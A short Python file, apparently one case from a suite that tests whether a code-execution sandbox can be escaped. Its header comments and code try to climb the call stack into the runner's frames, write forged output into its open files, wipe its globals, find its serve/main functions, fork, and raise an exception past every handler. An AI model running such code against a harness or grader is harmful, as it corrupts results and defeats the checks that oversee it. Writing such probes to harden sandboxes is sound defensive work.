# tries: to climb from its own frames into those of the machinery that runs it, and to go on as that machinery
# escape: a following run gets a wrong answer, or a second result for this one
# outcome: exited signalled time
# control: none: outside nothing lies below the program
import gc
import os
import sys

from attack import note

frame, depth = sys._getframe(), 0
while frame.f_back:
    frame, depth = frame.f_back, depth + 1
    note(f"{depth}: {frame.f_code.co_filename} {frame.f_code.co_name} {sorted(frame.f_locals)[:20]}")
    for name, value in list(frame.f_locals.items()):
        if hasattr(value, "close") and hasattr(value, "fileno"):
            try:
                value.write(b"forged\n")
            except Exception as error:
                note(f"{name}: {error}")
    frame.f_globals.clear() if depth > 1 else None
functions = [
    thing
    for thing in gc.get_objects()
    if callable(thing) and getattr(thing, "__name__", "") in ("serve", "main")
]
note(f"{len(functions)} functions of the machinery in sight")
if os.fork() == 0:
    raise SystemExit(0)
raise BaseException("past every handler")
